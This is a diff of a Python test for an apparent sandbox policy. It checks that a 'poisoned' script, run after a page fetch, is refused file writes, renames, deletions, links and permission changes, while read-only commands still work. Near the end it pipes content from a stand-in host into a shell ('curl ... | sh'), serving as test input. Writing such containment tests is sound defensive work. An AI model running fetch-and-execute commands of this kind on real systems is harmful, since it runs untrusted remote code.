@@ -82,9 +82,10 @@ def poisoned_run(checks, host, policy, sink):
     done = host.call("run", "--policy", policy, "--workspace", workspace, "--state", state, "--", "python3", "poisoned.py")
     report = scenario.last_json(done.stdout)
     checks.check(report.get("fetch") == 0, "poisoned run: the page is fetched", done.stdout + done.stderr)
-    for step in ("a", "c1", "c2", "c3", "write", "d"):
+    for step in ("a", "c1", "c2", "c3", "write", "d", "rename over", "rename away", "unlink", "truncate", "link",
+                 "symlink", "mkdir", "chmod"):
         checks.check(report.get(step) == "Permission denied", f"poisoned run: ({step}) is refused", report.get(step))
-    for command in ("ls", "cat", "git status", "git diff", "tests"):
+    for command in ("ls", "cat", "git status", "git diff", "tests", "change in scratch"):
         checks.check(report.get(command) == 0, f"poisoned run: {command} still works", report.get(command))
     piped = host.call("run", "--policy", policy, "--workspace", workspace, "--state", state, "--",
                       "bash", "-c", "curl -sS http://page.test/ | sh -s b")
